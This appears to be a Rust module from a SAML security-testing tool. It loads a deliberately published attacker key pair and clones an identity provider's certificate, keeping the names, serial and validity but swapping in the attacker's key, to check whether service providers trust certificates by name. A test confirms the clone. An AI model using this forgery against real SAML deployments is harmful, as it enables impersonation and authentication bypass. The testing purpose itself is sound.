//! The attacker's side of the signature scenarios: its published key pair, and the certificate
//! it clones from the IdP's (same names and serial, its own key) to fool an SP that recognises
//! the IdP by certificate name.

use openssl::hash::MessageDigest;
use openssl::pkey::{PKey, Private};
use openssl::x509::{X509Builder, X509};

use crate::saml::dsig::{DsigError, Signer};

/// The attacker's key pair, published with the project on purpose: it is what scenarios sign
/// with to prove an SP does not trust a key it was never given.
const ATTACKER_KEY: &[u8] = include_bytes!("attacker.key");
const ATTACKER_CERT: &[u8] = include_bytes!("attacker.crt");

/// The attacker's signer (its own self-signed certificate) and the cloned one (the IdP
/// certificate's names on the attacker's key), for `idp`.
pub fn attacker_signers(idp: &Signer) -> Result<(Signer, Signer), DsigError> {
    // Parsed once: decoding a PEM key is most of the cost here (the clones share it).
    let key = PKey::private_key_from_pem(ATTACKER_KEY)?;
    let attacker = Signer::new(key.clone(), X509::from_pem(ATTACKER_CERT)?)?;
    let cloned = Signer::new(key.clone(), clone_certificate(idp.certificate(), &key)?)?;
    Ok((attacker, cloned))
}

/// A certificate that copies `original`'s subject, issuer, serial number and validity but
/// carries `key`'s public key and is signed by `key`: what an attacker makes to fool an SP that
/// recognises its IdP's certificate by name (SAML Raider's "clone certificate").
pub fn clone_certificate(original: &X509, key: &PKey<Private>) -> Result<X509, DsigError> {
    let mut b = X509Builder::new()?;
    b.set_version(original.version())?;
    b.set_serial_number(original.serial_number())?;
    b.set_subject_name(original.subject_name())?;
    b.set_issuer_name(original.issuer_name())?;
    b.set_not_before(original.not_before())?;
    b.set_not_after(original.not_after())?;
    b.set_pubkey(key)?;
    b.sign(key, MessageDigest::sha256())?;
    Ok(b.build())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::saml::dsig::tests::test_signer;

    #[test]
    fn a_cloned_certificate_has_the_same_names_and_serial_but_another_key() {
        let s = test_signer();
        let attacker = PKey::private_key_from_pem(ATTACKER_KEY).unwrap();
        let clone = clone_certificate(s.certificate(), &attacker).unwrap();
        let original = s.certificate();
        assert_eq!(
            clone.subject_name().to_der().unwrap(),
            original.subject_name().to_der().unwrap()
        );
        assert_eq!(
            clone.serial_number().to_bn().unwrap(),
            original.serial_number().to_bn().unwrap()
        );
        assert!(!clone
            .public_key()
            .unwrap()
            .public_eq(&original.public_key().unwrap()));
        Signer::new(attacker, clone).unwrap();
    }
}
